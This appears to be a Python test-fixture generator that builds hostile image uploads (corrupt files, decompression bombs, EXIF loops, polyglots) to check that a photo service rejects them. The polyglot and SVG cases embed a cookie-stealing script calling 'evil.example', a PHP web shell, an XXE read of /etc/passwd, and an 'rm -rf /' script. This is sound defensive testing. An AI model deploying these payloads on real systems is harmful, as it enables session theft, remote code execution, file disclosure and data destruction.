"""Hostile uploads: at least 500 malformed or malicious files, made deterministically from a seed.

Each case is bytes, the content type and file name an attacker would send with them (often lying),
and the kind. Every case is one photostore must refuse with a 4xx: truncated and corrupted files
of every accepted format (cut before their end marker, or broken where the format's structure or
checksums make it detectable), header dimensions past the pixel limit, decompression bombs,
animations with more frames than allowed, polyglots (an image with an archive, a script or a page
after its end, or another format in front), formats outside the allowlist, malformed EXIF (offsets
outside the block, loops, entry counts past its end), and empty bodies.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()


@dataclass(frozen=True, slots=True)
class Hostile:
    kind: str
    data: bytes
    content_type: str
    filename: str


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _picture(rng: random.Random, size: tuple[int, int] = (96, 64)) -> Image.Image:
    image = Image.new("RGB", size, (rng.randrange(256), rng.randrange(256), rng.randrange(256)))
    for _ in range(6):
        x, y = rng.randrange(size[0]), rng.randrange(size[1])
        box = (x, y, min(size[0], x + 20), min(size[1], y + 20))
        image.paste((rng.randrange(256), 0, rng.randrange(256)), box)
    return image


def _bases(rng: random.Random) -> dict[str, bytes]:
    picture = _picture(rng)
    frames = [_picture(rng, (32, 32)) for _ in range(3)]
    return {
        "jpeg": _save(picture, "JPEG", quality=85),
        "png": _save(picture, "PNG"),
        "webp": _save(picture, "WEBP", quality=80),
        "gif": _save(picture.convert("P"), "GIF"),
        "heic": _save(picture, "HEIF"),
        "animated-gif": _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50),
    }


_TYPES = {
    "jpeg": "image/jpeg",
    "png": "image/png",
    "webp": "image/webp",
    "gif": "image/gif",
    "heic": "image/heic",
}
_LIES = [
    ("image/jpeg", "photo.jpg"),
    ("image/png", "image.png"),
    ("application/octet-stream", "x"),
    ("text/plain", "a.txt"),
]


def _as(kind: str, data: bytes, fmt: str) -> Hostile:
    """A case sent as the format it claims to be (``fmt``: a key of ``_TYPES``)."""
    return Hostile(kind, data, _TYPES[fmt], f"upload.{fmt}")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, idat: bytes, *, color_type: int = 0, extra: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def truncations(rng: random.Random, bases: dict[str, bytes], per_format: int = 35) -> Iterator[Hostile]:
    for name, data in bases.items():
        kind = name.removeprefix("animated-")
        for _ in range(per_format):
            cut = rng.randrange(1, len(data) - 1)
            yield Hostile(f"truncated-{name}", data[:cut], _TYPES[kind], f"cut.{kind}")


def corruptions(rng: random.Random, bases: dict[str, bytes], per_format: int = 20) -> Iterator[Hostile]:
    jpeg = bases["jpeg"]
    sos = jpeg.index(b"\xff\xda")
    scan_start = sos + 2 + int.from_bytes(jpeg[sos + 2 : sos + 4], "big")
    for _ in range(per_format):  # a 0xFF followed by no valid marker inside the entropy-coded data
        at = rng.randrange(scan_start, len(jpeg) - 4)
        bad = bytes([rng.choice([0x01, 0x02, 0x4F, 0xC8, 0xF0])])
        yield _as("corrupt-jpeg-scan", jpeg[:at] + b"\xff" + bad + jpeg[at + 2 :], "jpeg")
    for _ in range(per_format):  # a segment length pointing past the end of the file
        at = 2 + 2  # the first segment's length field
        yield _as("corrupt-jpeg-length", jpeg[:at] + b"\xff\xf0" + jpeg[at + 2 :], "jpeg")
        break
    png = bases["png"]
    for _ in range(per_format):  # a flipped byte in a chunk breaks its CRC-32
        at = rng.randrange(8, len(png))
        flipped = bytes([png[at] ^ (1 << rng.randrange(8))])
        yield _as("corrupt-png-crc", png[:at] + flipped + png[at + 1 :], "png")
    webp = bases["webp"]
    for delta in (-8, -2, 2, 8, 1000):  # the RIFF length disagrees with the file
        size = int.from_bytes(webp[4:8], "little") + delta
        yield _as("corrupt-webp-riff", webp[:4] + size.to_bytes(4, "little") + webp[8:], "webp")
    gif = bases["gif"]
    for _ in range(per_format // 2):  # the trailer replaced by garbage
        yield _as("corrupt-gif-trailer", gif[:-1] + bytes([rng.choice([0x00, 0x2C, 0x21, 0xFF])]), "gif")


def dimensions(rng: random.Random) -> Iterator[Hostile]:
    sizes = [(100_000, 100_000), (20_000, 20_000), (65_535, 65_535), (1, 2**31 - 1), (10_001, 10_001)]
    for width, height in sizes:
        yield _as("huge-png-header", _png(width, height, zlib.compress(b"\x00" * 64)), "png")
    # A GIF whose logical screen and image are 65535 x 65535.
    gif = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x00\x00\x00"
    gif += b"\x2c" + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\x00" + b"\x02\x02\x4c\x01\x00" + b"\x3b"
    yield _as("huge-gif-header", gif, "gif")
    # A JPEG whose frame header claims 65500 x 65500.
    jpeg = _save(_picture(rng), "JPEG")
    sof = jpeg.index(b"\xff\xc0")
    yield Hostile(
        "huge-jpeg-header",
        jpeg[: sof + 5] + struct.pack(">HH", 65500, 65500) + jpeg[sof + 9 :],
        "image/jpeg",
        "big.jpg",
    )


def bombs() -> Iterator[Hostile]:
    # Real decompression bombs: valid zlib streams that inflate to gigabytes of pixels.
    for side in (12_000, 16_000, 20_000):
        rows = zlib.compressobj(9)
        row = b"\x00" * (side + 1)  # filter byte + one grayscale row
        idat = b"".join(rows.compress(row) for _ in range(side)) + rows.flush()
        yield _as("png-bomb", _png(side, side, idat), "png")
    yield _as("gif-bomb", _gif_frames(1, (40_000, 40_000)), "gif")


def _gif_frames(count: int, screen: tuple[int, int] = (1, 1)) -> bytes:
    header = b"GIF89a" + struct.pack("<HH", *screen) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"
    frame = control + b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return header + frame * count + b"\x3b"


def frames() -> Iterator[Hostile]:
    for count in (1_001, 2_000, 5_000, 20_000):
        yield _as("too-many-gif-frames", _gif_frames(count), "gif")
    for declared in (1_001, 100_000, 2**31 - 1):  # APNG whose acTL declares more frames than allowed
        actl = _chunk(b"acTL", struct.pack(">II", declared, 0))
        yield _as("too-many-apng-frames", _png(1, 1, zlib.compress(b"\x00\x00"), extra=actl), "png")


def polyglots(bases: dict[str, bytes]) -> Iterator[Hostile]:
    trailers = {
        "zip": b"PK\x03\x04" + b"\x14\x00" * 10 + b"payload.txt" + b"PK\x05\x06" + b"\x00" * 18,
        "html": b"<html><body><script>alert(document.cookie)</script></body></html>",
        "script": b"<script>fetch('//evil.example/'+document.cookie)</script>",
        "php": b"<?php system($_GET['c']); ?>",
        "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
        "exe": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00",
    }
    for name in ("jpeg", "png", "gif", "webp"):
        for label, trailer in trailers.items():
            yield Hostile(f"polyglot-{name}+{label}", bases[name] + trailer, _TYPES[name], f"poly.{name}")
    for label, head in (("pdf", trailers["pdf"]), ("html", trailers["html"]), ("zip", trailers["zip"])):
        yield _as(f"polyglot-{label}+jpeg", head + bases["jpeg"], "jpeg")
    yield _as("polyglot-gifar", b"GIF89a/*" + b"\x00" * 10 + b"*/=alert(1);" + trailers["zip"], "gif")


def outside_allowlist(rng: random.Random) -> Iterator[Hostile]:
    picture = _picture(rng)
    yield Hostile("bmp", _save(picture, "BMP"), "image/bmp", "x.bmp")
    yield Hostile("ico", _save(picture, "ICO"), "image/x-icon", "x.ico")
    yield Hostile("tga", _save(picture, "TGA"), "image/x-tga", "x.tga")
    yield Hostile("pcx", _save(picture, "PCX"), "image/x-pcx", "x.pcx")
    yield Hostile("ppm", _save(picture, "PPM"), "image/x-portable-pixmap", "x.ppm")
    yield Hostile("pdf", _save(picture, "PDF"), "application/pdf", "x.pdf")
    for svg in (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>',
    ):
        yield Hostile("svg", svg, "image/svg+xml", "x.svg")
    texts = (
        b"hello",
        b"<html></html>",
        b"#!/bin/sh\nrm -rf /\n",
        b"\x7fELF\x02\x01" + b"\x00" * 60,
        b"PK\x03\x04",
    )
    for text in texts:
        yield _as("not-an-image", text, "jpeg")


def bad_exif(rng: random.Random) -> Iterator[Hostile]:
    """JPEGs whose EXIF block lies: offsets past its end, IFDs that point back at themselves, entry
    counts past the end, a block cut short."""
    base = _save(_picture(rng), "JPEG", quality=80)

    def with_exif(tiff: bytes) -> bytes:
        app1 = b"Exif\x00\x00" + tiff
        return base[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + base[2:]

    def ifd(entries: list[tuple[int, int, int, int]], next_ifd: int) -> bytes:
        body = struct.pack(">H", len(entries))
        for tag, kind, count, value in entries:
            body += struct.pack(">HHII", tag, kind, count, value)
        return body + struct.pack(">I", next_ifd)

    header = b"MM\x00\x2a\x00\x00\x00\x08"
    orientation = (0x0112, 3, 1, 0x00010000)
    yield _as("exif-loop", with_exif(header + ifd([orientation], 8)), "jpeg")
    yield _as("exif-exififd-loop", with_exif(header + ifd([(0x8769, 4, 1, 8)], 0)), "jpeg")
    yield _as("exif-gps-loop", with_exif(header + ifd([(0x8825, 4, 1, 8)], 0)), "jpeg")
    for offset in (0x7FFFFFFF, 0xFFFFFFF0, 10_000):
        yield _as("exif-ifd-past-end", with_exif(header[:4] + struct.pack(">I", offset)), "jpeg")
        yield _as("exif-value-past-end", with_exif(header + ifd([(0x010F, 2, 64, offset)], 0)), "jpeg")
        yield _as("exif-next-past-end", with_exif(header + ifd([orientation], offset)), "jpeg")
    for count in (65_535, 5_000, 1_000):
        yield _as("exif-count-past-end", with_exif(header + struct.pack(">H", count) + b"\x00" * 24), "jpeg")
    for cut in (3, 6, 9, 12):
        yield _as("exif-cut", with_exif((header + ifd([orientation], 0))[:cut]), "jpeg")
    yield _as("exif-bad-byte-order", with_exif(b"XX\x00\x2a\x00\x00\x00\x08" + ifd([], 0)), "jpeg")


def lying(rng: random.Random, bases: dict[str, bytes]) -> Iterator[Hostile]:
    """Every case above again under a false content type and extension is covered by the sender;
    here: empty bodies under every claimed type."""
    for content_type, filename in _LIES:
        yield Hostile("empty", b"", content_type, filename)


@functools.cache
def hostile_inputs(seed: int = 0) -> list[Hostile]:
    rng = random.Random(seed)
    bases = _bases(rng)
    cases = [
        *truncations(rng, bases),
        *corruptions(rng, bases),
        *dimensions(rng),
        *bombs(),
        *frames(),
        *polyglots(bases),
        *outside_allowlist(rng),
        *bad_exif(rng),
        *lying(rng, bases),
    ]
    # The same bytes under a lying content type and file name, for a share of the cases.
    lies = [
        Hostile(case.kind + "+lying-type", case.data, *rng.choice(_LIES))
        for case in rng.sample(cases, min(len(cases), 160))
    ]
    return cases + lies
